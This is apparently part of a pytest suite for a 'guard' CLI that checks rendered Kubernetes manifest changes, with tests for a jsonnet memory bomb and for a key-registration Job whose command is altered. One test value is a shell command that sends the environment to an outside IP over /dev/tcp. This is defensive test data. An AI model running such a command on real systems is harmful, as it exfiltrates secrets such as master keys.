    app = head / "rendered" / "dev" / "apps" / "06-namespaces.yaml"
    app.write_text(app.read_text().replace("include: '*.yaml'", "include: '*'", 1))
    (head / "rendered" / "dev" / "manifests" / "namespaces" / "bomb.jsonnet").write_text(_BOMB)
    started = time.monotonic()
    code, out, err = run_cli("guard", "--base", base, "--head", head, "--hydrate-cache", tmp_path / "cache")
    assert code == 2 and time.monotonic() - started < 60, (code, out, err)
    assert "rendered/dev/manifests/namespaces/bomb.jsonnet" in err and "JSONNET_MEMORY_BYTES" in err, err
    assert "Traceback" not in err and "bug" not in err


@pytest.mark.parametrize("field, value", [("command", ["sh", "-c", "env > /dev/tcp/203.0.113.9/80"]),
                                          ("image", "registry.example.org/curl:latest")])
def test_the_key_registration_job_beyond_its_model_list_is_not_silent(field: str, value: Any, real: Rendered,
                                                                       tmp_path: Path, github) -> None:
    """Row openwebui-key-models-values lets the model list through; the Job reads the master key,
    so its command or image, in the same values, is a finding (never allowed without approvals)."""
    def edit(t: Rendered) -> None:
        job = t.values("open-webui")["extraResources"][0]
        container = next(c for c in job["spec"]["template"]["spec"]["containers"] if c["name"] == "register")
        container[field] = value
    code, report = guard(tmp_path, real, real.edit(edit))
    assert code == 1 and report["findings"], report
    assert any(f"containers[register].{field}" in f["field"] for f in report["findings"]), report
